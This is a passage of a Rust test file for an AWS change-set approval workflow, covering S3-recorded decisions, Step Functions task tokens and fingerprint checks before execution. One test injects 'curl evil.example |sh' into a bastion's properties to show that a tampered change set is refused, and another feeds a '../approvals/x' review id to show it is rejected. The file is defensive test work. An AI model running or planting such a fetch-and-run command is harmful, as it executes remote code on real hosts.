                    seen.lock().unwrap().push(records.lock().unwrap().len());
                }
                ok
            })
            .then_output(|| SendTaskSuccessOutput::builder().build())
    };
    let s = approver(&[&get, &delete, &record], &[&send]);
    let fingerprint = reviewed_fingerprint();
    let request = json!({"reviewId": REVIEW_ID, "decision": "approve", "reason": " planned migration ", "fingerprint": fingerprint});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(response.status_code, 200, "{}", response.body);
    assert_eq!(
        body(&response),
        json!({"reviewId": REVIEW_ID, "decision": "approved", "decidedBy": ALICE, "changeSetId": CS, "fingerprint": fingerprint})
    );
    // Read, recorded, sent, read again (still the token used) and removed.
    assert_eq!(
        (
            get.num_calls(),
            record.num_calls(),
            send.num_calls(),
            delete.num_calls()
        ),
        (2, 1, 1, 1)
    );
    assert_eq!(*recorded_before_sending.lock().unwrap(), [1]);
    let output = sent.lock().unwrap()[0].clone();
    assert!(!output.contains(TASK_TOKEN));
    let sent: Value = serde_json::from_str(&output).unwrap();
    assert_eq!(
        sent,
        json!({
            "approved": true, "decidedBy": ALICE, "reason": "planned migration", "reviewId": REVIEW_ID,
            "changeSetId": CS, "fingerprint": fingerprint
        })
    );
    // The record is exactly what was sent, at decisions/<review id>.json.
    let records = records.lock().unwrap().clone();
    assert_eq!(
        (records[0].0.as_str(), records[0].1.as_deref()),
        (DECISION_KEY, Some("application/json"))
    );
    assert_eq!(String::from_utf8(records[0].2.clone()).unwrap(), output);
    // What the state machine keeps at $.decision is a Decision.
    let decision: Decision = serde_json::from_value(sent).unwrap();
    assert!(decision.approved && decision.cause.is_none());
}

#[tokio::test]
async fn a_base64_body_is_decided_as_the_same_request() {
    let get = get_pending(pending_approval());
    let delete = delete_token();
    let records = Puts::default();
    let record = put("decisions/", &records);
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let s = approver(&[&get, &delete, &record], &[&send]);
    let mut request = url_request(&json!({}), Some(ALICE));
    let decision = json!({"reviewId": REVIEW_ID, "decision": "approve"}).to_string();
    request.body = Some(aws_smithy_types::base64::encode(decision));
    request.is_base64_encoded = true;
    let response = approve(&s, request).await;
    assert_eq!(response.status_code, 200, "{}", response.body);
    assert_eq!(
        (record.num_calls(), send.num_calls(), delete.num_calls()),
        (1, 1, 1)
    );
    let output = sent.lock().unwrap()[0].clone();
    assert_eq!(records.lock().unwrap()[0].2, output.as_bytes());
    let decision: Decision = serde_json::from_str(&output).unwrap();
    assert!(decision.approved);
    assert_eq!(decision.fingerprint, reviewed_fingerprint());
}

#[tokio::test]
async fn a_rejection_is_sent_with_who_rejected_it_and_why_and_withdraws_any_recorded_approval() {
    let get = get_pending(pending_approval());
    let delete = delete_token();
    let records = Puts::default();
    let record = put("", &records);
    // An approval recorded by an earlier attempt whose send failed must not outlive the rejection.
    let withdraw = mock!(aws_sdk_s3::Client::delete_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(DECISION_KEY))
        .then_output(|| DeleteObjectOutput::builder().build());
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let s = approver(&[&get, &delete, &record, &withdraw], &[&send]);
    let request = json!({"reviewId": REVIEW_ID, "decision": "reject", "reason": "drops the orders table"});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(response.status_code, 200, "{}", response.body);
    assert_eq!(body(&response)["decision"], "rejected");
    assert_eq!(
        (
            get.num_calls(),
            record.num_calls(),
            send.num_calls(),
            delete.num_calls()
        ),
        (2, 0, 1, 1)
    );
    assert_eq!(withdraw.num_calls(), 1);
    let decision: Decision = serde_json::from_str(&sent.lock().unwrap()[0]).unwrap();
    assert!(!decision.approved);
    assert_eq!(decision.decided_by, ALICE);
    assert_eq!(decision.reason, "drops the orders table");
    let cause = decision.cause.unwrap();
    assert!(
        cause.contains(ALICE) && cause.contains("drops the orders table") && cause.contains(REVIEW_ID),
        "{cause}"
    );
}

#[tokio::test]
async fn an_approval_that_cannot_be_recorded_is_502_and_not_sent() {
    let get = get_pending(pending_approval());
    let delete = delete_token();
    let denied = mock!(aws_sdk_s3::Client::put_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(DECISION_KEY))
        .sequence()
        .http_status(
            403,
            Some(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Error><Code>AccessDenied</Code><Message>Access \
                 Denied</Message><RequestId>4442587FB7D0A2F9</RequestId><HostId>h</HostId></Error>"
                    .into(),
            ),
        )
        .repeatedly()
        .build();
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let s = approver(&[&get, &delete, &denied], &[&send]);
    let request = json!({"reviewId": REVIEW_ID, "decision": "approve"});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(
        refusal(&response),
        (502, "AwsError".to_owned()),
        "{}",
        response.body
    );
    assert!(
        body(&response)["message"]
            .as_str()
            .unwrap()
            .contains("S3 PutObject (decision record)"),
        "{}",
        response.body
    );
    // Nothing sent, and the token kept for another try.
    assert_eq!(
        (
            get.num_calls(),
            denied.num_calls(),
            send.num_calls(),
            delete.num_calls()
        ),
        (1, 1, 0, 0)
    );
}

#[tokio::test]
async fn a_request_that_cannot_decide_makes_no_call() {
    let cases = [
        (
            json!({"reviewId": REVIEW_ID, "decision": "reject"}),
            Some(ALICE),
            400,
            "InvalidDecision",
        ),
        (
            json!({"reviewId": REVIEW_ID, "decision": "reject", "reason": "   "}),
            Some(ALICE),
            400,
            "InvalidDecision",
        ),
        (
            json!({"reviewId": "../approvals/x", "decision": "approve"}),
            Some(ALICE),
            400,
            "InvalidDecision",
        ),
        (
            json!({"reviewId": REVIEW_ID, "decision": "approve"}),
            None,
            403,
            "NotAuthenticated",
        ),
        (
            json!({"reviewId": REVIEW_ID, "decision": "approve"}),
            Some(""),
            403,
            "NotAuthenticated",
        ),
    ];
    for (request, caller, status, error_type) in cases {
        let get = get_pending(pending_approval());
        let delete = delete_token();
        let records = Puts::default();
        let record = put("", &records);
        let sent = Sent::default();
        let send = send_task_success(&sent);
        let s = approver(&[&get, &delete, &record], &[&send]);
        let response = approve(&s, url_request(&request, caller)).await;
        assert_eq!(
            refusal(&response),
            (status, error_type.to_owned()),
            "{request} {caller:?}: {}",
            response.body
        );
        assert_eq!(
            (
                get.num_calls(),
                record.num_calls(),
                send.num_calls(),
                delete.num_calls()
            ),
            (0, 0, 0, 0),
            "{request} {caller:?}"
        );
    }
}

#[tokio::test]
async fn no_pending_approval_is_404() {
    let get = no_such_key(TOKEN_KEY);
    let delete = delete_token();
    let records = Puts::default();
    let record = put("", &records);
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let s = approver(&[&get, &delete, &record], &[&send]);
    let request = json!({"reviewId": REVIEW_ID, "decision": "approve"});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(
        refusal(&response),
        (404, "ApprovalNotPending".to_owned()),
        "{}",
        response.body
    );
    assert!(body(&response)["message"].as_str().unwrap().contains(REVIEW_ID));
    assert_eq!(
        (
            get.num_calls(),
            record.num_calls(),
            send.num_calls(),
            delete.num_calls()
        ),
        (1, 0, 0, 0)
    );
}

#[tokio::test]
async fn a_pending_approval_of_another_review_is_not_decided() {
    let other = PendingApproval {
        review_id: "prod-app/deploy-codepipeline-0".into(),
        ..pending_approval()
    };
    let get = get_pending(other);
    let delete = delete_token();
    let records = Puts::default();
    let record = put("", &records);
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let s = approver(&[&get, &delete, &record], &[&send]);
    let request = json!({"reviewId": REVIEW_ID, "decision": "approve"});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(refusal(&response), (404, "ApprovalNotPending".to_owned()));
    assert_eq!(
        (record.num_calls(), send.num_calls(), delete.num_calls()),
        (0, 0, 0)
    );
}

#[tokio::test]
async fn a_decision_on_another_review_than_the_pending_one_is_409_and_keeps_the_token() {
    let get = get_pending(pending_approval());
    let delete = delete_token();
    let records = Puts::default();
    let record = put("", &records);
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let s = approver(&[&get, &delete, &record], &[&send]);
    let stale = format!("sha256:{}", "0".repeat(64));
    let request = json!({"reviewId": REVIEW_ID, "decision": "approve", "fingerprint": stale});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(
        refusal(&response),
        (409, "StaleReview".to_owned()),
        "{}",
        response.body
    );
    let message = body(&response)["message"].as_str().unwrap().to_owned();
    assert!(
        message.contains(&stale) && message.contains(&reviewed_fingerprint()),
        "{message}"
    );
    assert_eq!(
        (
            get.num_calls(),
            record.num_calls(),
            send.num_calls(),
            delete.num_calls()
        ),
        (1, 0, 0, 0)
    );
}

/// SendTaskSuccess answering Step Functions' `code` for a task that no longer waits.
fn task_ended(code: &str) -> Rule {
    mock!(aws_sdk_sfn::Client::send_task_success)
        .match_requests(|r| r.task_token() == Some(TASK_TOKEN))
        .sequence()
        .http_status(
            400,
            Some(format!(
                "{{\"__type\":\"com.amazonaws.swf.service.v2.model#{code}\",\"message\":\"Task Timed Out: 'x'\"}}"
            )),
        )
        .repeatedly()
        .build()
}

#[tokio::test]
async fn a_task_no_longer_waiting_is_410_and_its_token_is_removed() {
    for code in ["TaskTimedOut", "TaskDoesNotExist", "InvalidToken"] {
        let get = get_pending(pending_approval());
        let delete = delete_token();
        let records = Puts::default();
        let record = put("decisions/", &records);
        let timed_out = task_ended(code);
        let s = approver(&[&get, &delete, &record], &[&timed_out]);
        let request = json!({"reviewId": REVIEW_ID, "decision": "approve"});
        let response = approve(&s, url_request(&request, Some(ALICE))).await;
        assert_eq!(
            refusal(&response),
            (410, "ApprovalEnded".to_owned()),
            "{code}: {}",
            response.body
        );
        assert!(response.body.contains(code), "{}", response.body);
        // Recorded before the send; the token, read again and still the one used, removed.
        assert_eq!(
            (
                get.num_calls(),
                record.num_calls(),
                timed_out.num_calls(),
                delete.num_calls()
            ),
            (2, 1, 1, 1),
            "{code}"
        );
    }
}

#[tokio::test]
async fn a_newer_token_kept_meanwhile_is_not_removed() {
    // A retried wait kept another token between the approve function's read and its removal:
    // that one is still pending, whether the decision was sent or its task had ended.
    let newer = PendingApproval {
        task_token: "AQCEAAAAKgAAAAMAAAAAAAAAAdWm+a-newer-task-token/8e4b==".into(),
        ..pending_approval()
    };
    for ended in [None, Some("TaskTimedOut")] {
        let get = get_pending_then(pending_approval(), newer.clone());
        let delete = delete_token();
        let records = Puts::default();
        let record = put("decisions/", &records);
        let sent = Sent::default();
        let send = match ended {
            None => send_task_success(&sent),
            Some(code) => task_ended(code),
        };
        let s = approver(&[&get, &delete, &record], &[&send]);
        let request = json!({"reviewId": REVIEW_ID, "decision": "approve"});
        let response = approve(&s, url_request(&request, Some(ALICE))).await;
        let status = if ended.is_some() { 410 } else { 200 };
        assert_eq!(response.status_code, status, "{ended:?}: {}", response.body);
        assert_eq!(
            (
                get.num_calls(),
                record.num_calls(),
                send.num_calls(),
                delete.num_calls()
            ),
            (2, 1, 1, 0),
            "{ended:?}"
        );
    }
}

#[tokio::test]
async fn a_failed_send_keeps_the_token_for_another_try() {
    let get = get_pending(pending_approval());
    let delete = delete_token();
    let records = Puts::default();
    let record = put("decisions/", &records);
    let denied = mock!(aws_sdk_sfn::Client::send_task_success)
        .sequence()
        .http_status(
            400,
            Some(r#"{"__type":"AccessDeniedException","message":"not authorized to perform: states:SendTaskSuccess"}"#.into()),
        )
        .repeatedly()
        .build();
    let s = approver(&[&get, &delete, &record], &[&denied]);
    let request = json!({"reviewId": REVIEW_ID, "decision": "approve"});
    let response = approve(&s, url_request(&request, Some(ALICE))).await;
    assert_eq!(
        refusal(&response),
        (502, "AwsError".to_owned()),
        "{}",
        response.body
    );
    // Recorded (another try records it again), not sent, the token not read again nor removed.
    assert_eq!(
        (
            get.num_calls(),
            record.num_calls(),
            denied.num_calls(),
            delete.num_calls()
        ),
        (1, 1, 1, 0)
    );
}

// ---- the execute step after a decision ----

fn decided_state(decision: Value) -> Value {
    let mut s = reviewed_state();
    s["decision"] = decision;
    s
}

/// GetObject of the decision record, answering `record` as the approve function wrote it.
fn get_record(record: &Value) -> Rule {
    let bytes = serde_json::to_vec(record).unwrap();
    mock!(aws_sdk_s3::Client::get_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(DECISION_KEY))
        .then_output(move || object(bytes.clone()))
}

/// GetObject of the decision record, answering what was PutObject'ed there (in `puts`) by the
/// time of the call.
fn get_recorded(puts: &Puts) -> Rule {
    let puts = Arc::clone(puts);
    mock!(aws_sdk_s3::Client::get_object)
        .match_requests(|r| r.bucket() == Some(BUCKET) && r.key() == Some(DECISION_KEY))
        .then_output(move || {
            let puts = puts.lock().unwrap();
            let (_, _, body) = (puts.iter().rev())
                .find(|(key, _, _)| key == DECISION_KEY)
                .expect("a decision recorded before the execute step reads it");
            object(body.clone())
        })
}

#[tokio::test]
async fn an_approved_change_set_unchanged_since_its_review_is_executed() {
    let [page1, page2, network] = described(true);
    let execute = execute();
    let approved = decision(true, CS, &reviewed_fingerprint());
    let record = get_record(&approved);
    let s = steps(
        &[&page1, &page2, &network, &execute],
        &[&record],
        &[],
        &[],
        config(),
    );
    let out = run(&s, Step::ExecuteChangeSet, decided_state(approved))
        .await
        .unwrap();
    let mut out = out;
    let started = out.as_object_mut().and_then(|o| o.remove("startedAtMs"));
    assert!(
        started.is_some_and(|t| t.as_u64().is_some()),
        "when the execution started"
    );
    assert_eq!(out, json!({"changeSetId": CS, "stackId": STACK_ID}));
    assert_eq!(record.num_calls(), 1);
    assert_eq!(
        (page1.num_calls(), page2.num_calls(), network.num_calls()),
        (1, 1, 1)
    );
    assert_eq!(execute.num_calls(), 1);
}

/// A decision sent with the task token by someone else than the approve function (the token is
/// in the execution's history): nothing recorded it, so nothing is executed.
#[tokio::test]
async fn an_approval_the_approve_function_never_recorded_executes_nothing() {
    // 404 to a caller that may list the bucket, 403 to one that may not.
    for (status, code) in [(404, "NoSuchKey"), (403, "AccessDenied")] {
        let [page1, page2, network] = described(true);
        let execute = execute();
        let missing = get_error(DECISION_KEY, status, code);
        let s = steps(
            &[&page1, &page2, &network, &execute],
            &[&missing],
            &[],
            &[],
            config(),
        );
        let forged = decided_state(decision(true, CS, &reviewed_fingerprint()));
        let err = run(&s, Step::ExecuteChangeSet, forged).await.unwrap_err();
        assert_eq!(err.error_type(), "ApprovalNotVerified", "{code}: {err}");
        let message = err.to_string();
        assert!(
            message.contains("was not recorded by the approve function")
                && message.contains(ALICE)
                && message.contains(&format!("s3://{BUCKET}/{DECISION_KEY}"))
                && message.contains(code)
                && message.contains(CS),
            "{message}"
        );
        assert_eq!(
            (missing.num_calls(), page1.num_calls(), execute.num_calls()),
            (1, 0, 0),
            "{code}"
        );
    }
}

#[tokio::test]
async fn an_approval_that_differs_from_its_record_executes_nothing() {
    let approved = decision(true, CS, &reviewed_fingerprint());
    let mut by_bob = approved.clone();
    by_bob["decidedBy"] = json!("arn:aws:iam::111111111111:user/bob");
    let mut other_reason = approved.clone();
    other_reason["reason"] = json!("whatever");
    let mut with_cause = approved.clone();
    with_cause["cause"] = json!("a cause no approval has");
    for in_state in [by_bob, other_reason, with_cause] {
        let [page1, page2, network] = described(true);
        let execute = execute();
        let record = get_record(&approved);
        let s = steps(
            &[&page1, &page2, &network, &execute],
            &[&record],
            &[],
            &[],
            config(),
        );
        let err = run(&s, Step::ExecuteChangeSet, decided_state(in_state.clone()))
            .await
            .unwrap_err();
        assert_eq!(err.error_type(), "ApprovalNotVerified", "{in_state}: {err}");
        assert!(
            err.to_string().contains(&format!(
                "is not the one recorded in s3://{BUCKET}/{DECISION_KEY}"
            )),
            "{err}"
        );
        assert_eq!(
            (record.num_calls(), page1.num_calls(), execute.num_calls()),
            (1, 0, 0),
            "{in_state}"
        );
    }
}

#[tokio::test]
async fn a_record_that_is_not_a_decision_executes_nothing() {
    let approved = decision(true, CS, &reviewed_fingerprint());
    let records = [
        json!({"approved": true}),
        serde_json::to_value(pending_approval()).unwrap(),
        json!("approved"),
    ];
    for recorded in records {
        let [page1, page2, network] = described(true);
        let execute = execute();
        let record = get_record(&recorded);
        let s = steps(
            &[&page1, &page2, &network, &execute],
            &[&record],
            &[],
            &[],
            config(),
        );
        let err = run(&s, Step::ExecuteChangeSet, decided_state(approved.clone()))
            .await
            .unwrap_err();
        assert_eq!(err.error_type(), "ApprovalNotVerified", "{recorded}: {err}");
        assert!(err.to_string().contains("is not a recorded decision"), "{err}");
        assert_eq!((page1.num_calls(), execute.num_calls()), (0, 0), "{recorded}");
    }
}

#[tokio::test]
async fn a_record_s3_cannot_answer_executes_nothing() {
    let [page1, page2, network] = described(true);
    let execute = execute();
    let failing = get_error(DECISION_KEY, 500, "InternalError");
    let s = steps(
        &[&page1, &page2, &network, &execute],
        &[&failing],
        &[],
        &[],
        config(),
    );
    let st = decided_state(decision(true, CS, &reviewed_fingerprint()));
    let err = run(&s, Step::ExecuteChangeSet, st).await.unwrap_err();
    // Not a verdict on the approval: an AWS error the state machine may retry.
    assert_eq!(err.error_type(), "AwsError", "{err}");
    assert!(
        err.to_string().contains("S3 GetObject (recorded decision)"),
        "{err}"
    );
    assert!(failing.num_calls() >= 1);
    assert_eq!((page1.num_calls(), execute.num_calls()), (0, 0));
}

#[tokio::test]
async fn a_malformed_decision_executes_nothing_and_stops_no_other_step() {
    let malformed = [
        json!({"approved": true}),
        json!({"approved": "true", "decidedBy": ALICE, "reason": "", "reviewId": REVIEW_ID,
               "changeSetId": CS, "fingerprint": reviewed_fingerprint()}),
        json!(true),
    ];
    for bad in malformed {
        let [page1, page2, network] = described(true);
        let [judged1, judged2, judged_network] = described(false);
        let execute = execute();
        let record = get_record(&decision(true, CS, &reviewed_fingerprint()));
        let s = steps(
            &[
                &page1,
                &page2,
                &network,
                &judged1,
                &judged2,
                &judged_network,
                &execute,
            ],
            &[&record],
            &[],
            &[],
            config(),
        );
        let st = decided_state(bad.clone());
        let err = run(&s, Step::ExecuteChangeSet, st.clone()).await.unwrap_err();
        assert_eq!(err.error_type(), "ApprovalNotVerified", "{bad}: {err}");
        assert!(
            err.to_string()
                .contains("the decision in the state is not one the approve function sends"),
            "{err}"
        );
        assert_eq!(
            (
                record.num_calls(),
                page1.num_calls(),
                judged1.num_calls(),
                execute.num_calls()
            ),
            (0, 0, 0, 0),
            "{bad}"
        );
        // The steps that clean up read the same state.
        for step in [Step::DeleteChangeSet, Step::StackStatus, Step::ChangeSetStatus] {
            Request::parse(step, st.clone()).unwrap_or_else(|e| panic!("{step:?} with {bad}: {e}"));
        }
    }
}

#[tokio::test]
async fn an_approval_needs_the_review_bucket_before_any_call() {
    let [page1, page2, network] = described(true);
    let execute = execute();
    let approved = decision(true, CS, &reviewed_fingerprint());
    let record = get_record(&approved);
    let unconfigured = Config {
        review_bucket: None,
        ..config()
    };
    let s = steps(
        &[&page1, &page2, &network, &execute],
        &[&record],
        &[],
        &[],
        unconfigured,
    );
    let err = run(&s, Step::ExecuteChangeSet, decided_state(approved))
        .await
        .unwrap_err();
    assert_eq!(err.error_type(), "NotConfigured", "{err}");
    assert!(err.to_string().starts_with("REVIEW_BUCKET is not set"), "{err}");
    assert_eq!(
        (record.num_calls(), page1.num_calls(), execute.num_calls()),
        (0, 0, 0)
    );
}

#[tokio::test]
async fn an_approved_change_set_whose_values_changed_is_not_executed() {
    // Same id, same actions and replacements: only a property value differs.
    let mut changed = page("network.json");
    let bastion = changed.changes[1].resource_change.as_mut().unwrap();
    bastion.after_context =
        (bastion.after_context.as_ref()).map(|c| c.replace("echo connect", "curl evil.example |sh; echo"));
    let [page1, page2, _] = described(true);
    let network = describe(NETWORK_CS, None, true, changed);
    let execute = execute();
    let approved = decision(true, CS, &reviewed_fingerprint());
    let record = get_record(&approved);
    let s = steps(
        &[&page1, &page2, &network, &execute],
        &[&record],
        &[],
        &[],
        config(),
    );
    let err = run(&s, Step::ExecuteChangeSet, decided_state(approved))
        .await
        .unwrap_err();
    assert_eq!(err.error_type(), "ChangeSetChanged");
    let message = err.to_string();
    assert!(
        message.contains("its changes differ from the review's"),
        "{message}"
    );
    assert!(message.contains(&reviewed_fingerprint()), "{message}");
    assert!(
        message.ends_with("it is not the change set that was approved"),
        "{message}"
    );
    assert_eq!((record.num_calls(), network.num_calls()), (1, 1));
    assert_eq!(execute.num_calls(), 0);
}

#[tokio::test]
async fn an_approved_change_set_that_no_longer_exists_is_not_executed() {
    let answers = [
        (
            404,
            "<ErrorResponse xmlns=\"http://cloudformation.amazonaws.com/doc/2010-05-15/\"><Error><Type>Sender</Type>\
             <Code>ChangeSetNotFound</Code><Message>ChangeSet [deploy-codepipeline-1] does not exist</Message></Error>\
             <RequestId>r-1</RequestId></ErrorResponse>",
        ),
        (
            400,
            "<ErrorResponse xmlns=\"http://cloudformation.amazonaws.com/doc/2010-05-15/\"><Error><Type>Sender</Type>\
             <Code>ValidationError</Code><Message>ChangeSet [deploy-codepipeline-1] does not exist</Message></Error>\
             <RequestId>r-2</RequestId></ErrorResponse>",
        ),
    ];
    for (status, answer) in answers {
        let gone = mock!(aws_sdk_cloudformation::Client::describe_change_set)
            .match_requests(|r| r.change_set_name() == Some(CS) && r.include_property_values() == Some(true))
            .sequence()
            .http_status(status, Some(answer.into()))
            .repeatedly()
            .build();
        let execute = execute();
        let approved = decision(true, CS, &reviewed_fingerprint());
        let record = get_record(&approved);
        let s = steps(&[&gone, &execute], &[&record], &[], &[], config());
        let err = run(&s, Step::ExecuteChangeSet, decided_state(approved))
            .await
            .unwrap_err();
        assert_eq!(err.error_type(), "ChangeSetChanged", "{status}: {err}");
        assert!(err.to_string().contains("it no longer exists"), "{err}");
        assert_eq!(
            (record.num_calls(), gone.num_calls(), execute.num_calls()),
            (1, 1, 0),
            "{status}"
        );
    }
}

#[tokio::test]
async fn an_approval_of_another_change_set_or_review_executes_nothing() {
    // Each approval as the approve function recorded it: the record is checked first, then
    // what it approves.
    let fingerprint = reviewed_fingerprint();
    let stale = format!("sha256:{}", "0".repeat(64));
    let cases = [
        (decision(true, OTHER_CS, &fingerprint), OTHER_CS),
        (decision(true, CS, &stale), stale.as_str()),
    ];
    for (decision, named) in cases {
        let [page1, page2, network] = described(true);
        let execute = execute();
        let record = get_record(&decision);
        let s = steps(
            &[&page1, &page2, &network, &execute],
            &[&record],
            &[],
            &[],
            config(),
        );
        let err = run(&s, Step::ExecuteChangeSet, decided_state(decision))
            .await
            .unwrap_err();
        assert_eq!(err.error_type(), "ChangeSetChanged", "{err}");
        assert!(err.to_string().contains(named), "{err}");
        assert_eq!(
            (record.num_calls(), page1.num_calls(), execute.num_calls()),
            (1, 0, 0),
            "decided before describing the change set: {err}"
        );
    }
    // A review of another change set than the state's.
    let [page1, page2, network] = described(true);
    let execute = execute();
    let approved = decision(true, CS, &fingerprint);
    let record = get_record(&approved);
    let s = steps(
        &[&page1, &page2, &network, &execute],
        &[&record],
        &[],
        &[],
        config(),
    );
    let mut st = decided_state(approved);
    st["review"]["changeSetId"] = json!(OTHER_CS);
    let err = run(&s, Step::ExecuteChangeSet, st).await.unwrap_err();
    assert_eq!(err.error_type(), "ChangeSetChanged", "{err}");
    assert_eq!(execute.num_calls(), 0);
}

#[tokio::test]
async fn an_unsafe_change_set_without_an_approval_is_never_executed() {
    let fingerprint = reviewed_fingerprint();
    let mut undecided = reviewed_state();
    undecided["decision"] = Value::Null;
    for st in [decided_state(decision(false, CS, &fingerprint)), undecided] {
        // Judged again, without property values, as the inspection does; no record is read.
        let [page1, page2, network] = described(false);
        let execute = execute();
        let record = get_record(&decision(true, CS, &fingerprint));
        let s = steps(
            &[&page1, &page2, &network, &execute],
            &[&record],
            &[],
            &[],
            config(),
        );
        let err = run(&s, Step::ExecuteChangeSet, st).await.unwrap_err();
        assert_eq!(err.error_type(), "UnsafeChangeSet", "{err}");
        assert!(
            err.to_string()
                .contains("Database (AWS::RDS::DBInstance): replaced (Replacement: True)"),
            "{err}"
        );
        assert_eq!(
            (page1.num_calls(), page2.num_calls(), network.num_calls()),
            (1, 1, 1)
        );
        assert_eq!((record.num_calls(), execute.num_calls()), (0, 0));
    }
}

// ---- the whole path ----

/// Review, request, approve, execute, each output placed in the state as the state machine does:
/// the fingerprint the execute step checks is the one the review step wrote, and the decision
/// is the one the approve function sent and recorded (the execute step reads what the approve
/// function put).
#[tokio::test]
async fn review_request_approve_execute() {
    let [page1, page2, network] = described(true);
    let execute = execute();
    let puts = Puts::default();
    let put_review = put("reviews/", &puts);
    let put_token = put("approvals/", &puts);
    let put_record = put("decisions/", &puts);
    let get_record = get_recorded(&puts);
    let s = steps(
        &[&page1, &page2, &network, &execute],
        &[&put_review, &put_token, &get_record],
        &[],
        &[],
        config(),
    );
    let mut st = state();
    st["review"] = run(&s, Step::ReviewChangeSet, st.clone()).await.unwrap();
    let markdown = String::from_utf8(puts.lock().unwrap()[1].2.clone()).unwrap();

    let get = get_markdown(markdown.clone());
    let published = Published::default();
    let publish = publish(&published);
    let requester = steps(&[], &[&put_token, &get], &[&publish], &[], config());
    let request = json!({"state": st.clone(), "taskToken": TASK_TOKEN});
    run(&requester, Step::RequestApproval, request).await.unwrap();
    let (_, message) = published.lock().unwrap()[0].clone();
    assert!(message.ends_with(&markdown));
    assert_no_secret("the message", &message);
    let pending: PendingApproval = serde_json::from_slice(&puts.lock().unwrap()[2].2).unwrap();

    let get = get_pending(pending);
    let delete = delete_token();
    let sent = Sent::default();
    let send = send_task_success(&sent);
    let fingerprint = st["review"]["fingerprint"].clone();
    let decide = json!({"reviewId": REVIEW_ID, "decision": "approve", "fingerprint": fingerprint});
    let response = approve(
        &approver(&[&get, &delete, &put_record], &[&send]),
        url_request(&decide, Some(ALICE)),
    )
    .await;
    assert_eq!(response.status_code, 200, "{}", response.body);
    let output = sent.lock().unwrap()[0].clone();
    {
        let puts = puts.lock().unwrap();
        assert_eq!(puts.len(), 4);
        assert_eq!(puts[3].0, DECISION_KEY);
        assert_eq!(puts[3].2, output.as_bytes());
    }
    st["decision"] = serde_json::from_str(&output).unwrap();

    assert_eq!((get_record.num_calls(), execute.num_calls()), (0, 0));
    let out = run(&s, Step::ExecuteChangeSet, st).await.unwrap();
    assert_eq!(out["changeSetId"], CS);
    assert_eq!((get_record.num_calls(), execute.num_calls()), (1, 1));
    assert_eq!(
        (page1.num_calls(), page2.num_calls(), network.num_calls()),
        (2, 2, 2)
    );
}
